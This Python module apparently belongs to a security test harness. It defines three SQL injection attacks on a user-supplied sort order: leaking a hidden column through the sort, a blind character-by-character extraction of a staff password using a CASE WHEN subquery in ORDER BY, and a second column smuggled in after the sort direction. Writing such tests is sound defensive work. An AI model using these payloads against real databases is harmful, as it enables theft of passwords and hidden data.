"""Attacks on a sort order that the user names."""

from prover import Target

from .stage import Stage


def attack_hidden_column(target: Target, stage: Stage) -> bool:
    """Sort by a column that the list does not show; the order tells its values."""
    found = target.price_list(stage.db, "margin", "asc")
    print(found)
    return bool(found == stage.by_margin)


def attack_question(target: Target, stage: Stage) -> bool:
    """Let a question about another table decide by what is sorted."""
    found = ""
    for position in range(1, len(stage.secret) + 1):
        for character in "0123456789abcdefghijklmnopqrstuvwxyz-":
            guess = (
                f"(SELECT substr(password, {position}, 1) = '{character}' FROM staff)"
            )
            asked = f"CASE WHEN {guess} THEN price ELSE -price END"
            if target.price_list(stage.db, asked, "asc")[0] == "tea":
                found += character
                break
    print(found)
    return found == stage.secret


def attack_after_the_direction(target: Target, stage: Stage) -> bool:
    """Leave the column alone and put a second one behind the direction."""
    found = target.price_list(stage.db, "item", "IS NULL, margin")
    print(found)
    return bool(found == stage.by_margin)
